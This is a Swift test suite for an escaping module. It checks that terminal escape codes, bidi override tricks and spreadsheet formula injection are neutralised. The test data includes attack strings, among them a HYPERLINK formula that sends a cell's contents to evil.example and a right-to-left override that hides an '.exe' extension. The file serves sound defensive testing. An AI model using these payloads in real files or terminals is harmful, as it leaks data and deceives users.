import Testing
@testable import MESCore

@Suite struct EscapingTests {
    @Test func terminalControlSequencesAreShownNotObeyed() {
        #expect(TextEscaping.terminalSafe("Martine\u{1B}[2J") == "Martine\\x1b[2J")
        #expect(TextEscaping.terminalSafe("\u{1B}]0;pwned\u{07}Dupont") == "\\x1b]0;pwned\\x07Dupont")
        #expect(TextEscaping.terminalSafe("a\tb\nc\rd\u{0}e\u{7F}") == "a\\tb\\nc\\rd\\x00e\\x7f")
        // C1: U+009B is a one-byte CSI on some terminals.
        #expect(TextEscaping.terminalSafe("x\u{9B}2Jy\u{85}") == "x\\u{9b}2Jy\\u{85}")
    }

    @Test func bidiOverridesAreShown() {
        #expect(TextEscaping.terminalSafe("Jean\u{202E}fdp.exe") == "Jean\\u{202e}fdp.exe")
        #expect(TextEscaping.terminalSafe("\u{2066}a\u{2069}\u{200F}") == "\\u{2066}a\\u{2069}\\u{200f}")
        #expect(TextEscaping.terminalSafe("\u{202A}\u{202B}\u{202C}\u{202D}\u{2067}\u{2068}")
                == "\\u{202a}\\u{202b}\\u{202c}\\u{202d}\\u{2067}\\u{2068}")
    }

    @Test func cleanTextIsUnchanged() {
        for s in ["", "LEGUELLEC Martine Julie", "1 16 30 44 038 016 18", "Anaïs « Nana » l’Hôpital\u{A0}°", "Ελένη 李", "C:\\dossier", "…—€"] {
            #expect(TextEscaping.terminalSafe(s) == s, "\(s)")
            #expect(!TextEscaping.needsTerminalEscaping(s))
        }
    }

    @Test func bytesAreEscapedIntoABuffer() {
        func run(_ bytes: [UInt8]) -> String {
            var out: [UInt8] = Array("> ".utf8)
            bytes.withUnsafeBufferPointer { TextEscaping.appendTerminalSafe($0, to: &out) }
            return String(decoding: out, as: UTF8.self)
        }
        #expect(run(Array("1 16 30 44 038 016 18".utf8)) == "> 1 16 30 44 038 016 18")
        #expect(run(Array("\u{1B}[31m1160\u{202E}".utf8)) == "> \\x1b[31m1160\\u{202e}")
        #expect(run([0x41, 0xFF, 0x42]) == "> A\u{FFFD}B")
        #expect(run(Array("Anaïs".utf8)) == "> Anaïs")
    }

    @Test func formulaCellsAreNeutralised() {
        #expect(TextEscaping.spreadsheetCell("=HYPERLINK(\"http://evil.example/?\"&A1,\"clic\")")
                == "'=HYPERLINK(\"http://evil.example/?\"&A1,\"clic\")")
        #expect(TextEscaping.spreadsheetCell("-1+1") == "'-1+1")
        #expect(TextEscaping.spreadsheetCell("+33 6 12 34 56 78") == "'+33 6 12 34 56 78")
        #expect(TextEscaping.spreadsheetCell("@SUM(A1:A9)") == "'@SUM(A1:A9)")
        #expect(TextEscaping.spreadsheetCell("\tcmd") == "' cmd")
        #expect(TextEscaping.spreadsheetCell("\r=1") == "' =1")
        #expect(TextEscaping.spreadsheetCell("＝1+1") == "'＝1+1")
    }

    /// LibreOffice's CSV import with « Trim spaces » ticked runs « =1+1 » read from the cell
    /// « ␠=1+1 » (a batch report's kept cells are carried untrimmed): the formula start is looked
    /// for after leading white space too.
    @Test func formulasAfterLeadingSpacesAreNeutralised() {
        #expect(TextEscaping.spreadsheetCell(" =1+1", tabSeparated: false) == "' =1+1")
        #expect(TextEscaping.spreadsheetCell("  \u{A0}@SUM(A1)", tabSeparated: false) == "'  \u{A0}@SUM(A1)")
        #expect(TextEscaping.spreadsheetCell(" Dupont", tabSeparated: false) == " Dupont")
        #expect(TextEscaping.spreadsheetCell("   ", tabSeparated: false) == "   ")
    }

    @Test func tabsAndLineEndsCannotMakeNewCells() {
        #expect(TextEscaping.spreadsheetCell("Dupont\tJean\nX\r\nY") == "Dupont Jean X  Y")
        #expect(TextEscaping.spreadsheetCell("a\n=cmd") == "a =cmd")
        // CSV keeps them: the writer quotes the field.
        #expect(TextEscaping.spreadsheetCell("a\nb", tabSeparated: false) == "a\nb")
        #expect(TextEscaping.spreadsheetCell("=1", tabSeparated: false) == "'=1")
        #expect(CSVWriter.line([TextEscaping.spreadsheetCell("=A1\"x", tabSeparated: false)]) == "\"'=A1\"\"x\"\n")
    }

    @Test func cleanCellsAreUnchanged() {
        for s in ["", "Leguellec", "116304403801618", "1988-06-08", "ABCD-EFGH-JKMN", "Jean-Pierre", "a=b", "x@example.fr"] {
            #expect(TextEscaping.spreadsheetCell(s) == s, "\(s)")
        }
    }
}
